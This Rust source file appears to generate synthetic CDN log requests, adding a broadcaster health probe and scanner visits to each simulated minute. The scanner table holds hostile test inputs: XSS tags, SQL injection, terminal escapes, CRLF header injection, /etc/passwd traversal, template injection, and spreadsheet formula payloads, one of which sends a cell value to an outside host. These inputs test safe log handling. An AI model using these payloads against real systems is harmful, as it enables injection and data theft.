//! Requests that are nobody's watching: the broadcaster's probe, and scanners whose user agents and
//! query strings are hostile to whoever shows them.

use std::net::{IpAddr, Ipv4Addr};

use crate::Scene;
use crate::devices::PROBE;
use crate::places::{self, PROBE_NETWORK};
use crate::random::Draw;
use crate::request::{Agent, Object, ObjectKind, Request};

/// What a scanner sends: path, query string, user agent.
type Visit = (&'static [u8], Option<&'static [u8]>, &'static [u8]);

/// Harmless where text is treated as text alone.
const VISITS: [Visit; 12] = [
    (
        b"/wp-login.php",
        None,
        b"Mozilla/5.0 (compatible; Scanner/1.0)",
    ),
    (b"/.env", None, b"curl/8.14.1"),
    (
        b"/search",
        Some(b"q=<script>alert(1)</script>"),
        b"<script>document.title='hostile'</script>",
    ),
    (
        b"/",
        Some(b"name=%27%20OR%20%271%27=%271"),
        b"'; DROP TABLE requests; --",
    ),
    (b"/", None, b"\x1b[2J\x1b[31mred\x1b[0m\x07"),
    (
        b"/export",
        Some(b"cell==1+1"),
        b"=HYPERLINK(\"http://198.51.100.200/?\"&A1,\"click\")",
    ),
    (b"/", None, b"+1+cmd|' /C calc'!A0"),
    (
        b"/",
        Some(b"x=%00%0d%0aSet-Cookie:a=b"),
        b"\"quoted\", 'twice' and\ta tab",
    ),
    (b"/", None, b"| a | `table` |\r\n# and a heading"),
    (b"/caf\xc3\xa9", None, b"\xff\xfe\x80 no UTF-8 \xc3"),
    (
        b"/%2e%2e/%2e%2e/etc/passwd",
        Some(b"CMCD=sid%3D%22%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E%22"),
        b"<img src=x onerror=alert(1)>",
    ),
    (b"/", Some(b"{{7*7}}"), b"@SUM(1+1)*cmd|' /C calc'!A0"),
];

/// Scanners that come in a minute although nobody watches.
const SCANNERS: f64 = 0.12;
/// Viewers for each scanner that comes besides.
const VIEWERS_A_SCANNER: u64 = 4_000;

/// Appends the strangers' requests of a minute.
pub(crate) fn come<'a>(
    scene: &'a Scene,
    minute: i64,
    seats: u64,
    (distribution, host): (&'a str, &'a str),
    requests: &mut Vec<Request<'a>>,
) {
    let name = distribution.bytes().fold(0_u64, |sum, byte| {
        sum.wrapping_mul(31).wrapping_add(u64::from(byte))
    });
    let mut draw = Draw::of(&[scene.seed, name, minute.cast_unsigned(), 30]);
    let begin = minute * 60_000;
    requests.push(probe(distribution, host, begin, &mut draw));
    let scanners = seats / VIEWERS_A_SCANNER + u64::from(draw.chance(SCANNERS));
    for _ in 0..scanners {
        let visit = draw.one_of(&VISITS);
        requests.push(scan(scene, visit, (distribution, host), begin, &mut draw));
    }
}

fn probe<'a>(distribution: &'a str, host: &'a str, begin: i64, draw: &mut Draw) -> Request<'a> {
    Request {
        at: begin + 20_000 + i64::try_from(draw.below(400)).unwrap_or_default(),
        distribution,
        host,
        by_own_name: false,
        edge: "VIE50-C1",
        // The broadcaster's own, which no rule may block.
        address: IpAddr::V4(Ipv4Addr::new(198, 51, 100, 20)),
        port: 40_443,
        country: "AT",
        network: PROBE_NETWORK,
        method: if draw.chance(0.25) { "HEAD" } else { "GET" },
        protocol_version: PROBE.protocol_version,
        object: Object {
            folder: "",
            kind: ObjectKind::Health,
            rendition: "",
            number: 0,
        },
        argument: None,
        agent: Agent::Device(&PROBE),
        has_referer: false,
        status: 200,
        bytes: 412,
        request_bytes: 88,
        content_length: Some(3),
        result: "Hit",
        response_result: "Hit",
        detailed_result: "Hit",
        taken: 1,
        first_byte: 1,
        origin: None,
        cmcd: None,
        note: None,
        connection: draw.next(),
        id: draw.next(),
    }
}

fn scan<'a>(
    scene: &'a Scene,
    (path, argument, agent): Visit,
    (distribution, host): (&'a str, &'a str),
    begin: i64,
    draw: &mut Draw,
) -> Request<'a> {
    let (address, network) = places::data_center(draw.next() % 97);
    let country = scene.countries.first().map_or("ZZ", |(code, _)| code);
    let (edges, distance) = places::edges(country);
    let taken = crate::random::whole(distance + draw.tailed(60.0)) + 1;
    let status = draw.one_of(&[403, 404, 404]);
    Request {
        at: begin + i64::try_from(draw.below(59_000)).unwrap_or_default(),
        distribution,
        host,
        by_own_name: false,
        edge: edges[0],
        address,
        port: 50_000,
        country,
        network,
        method: draw.one_of(&["GET", "GET", "GET", "HEAD", "POST"]),
        protocol_version: "HTTP/1.1",
        object: Object {
            folder: "",
            kind: ObjectKind::Stray(path),
            rendition: "",
            number: 0,
        },
        argument,
        agent: Agent::Raw(agent),
        has_referer: false,
        status,
        bytes: 700,
        request_bytes: 140,
        content_length: Some(280),
        result: "Error",
        response_result: "Error",
        detailed_result: "Error",
        taken,
        first_byte: taken,
        origin: None,
        cmcd: None,
        note: None,
        connection: draw.next(),
        id: draw.next(),
    }
}
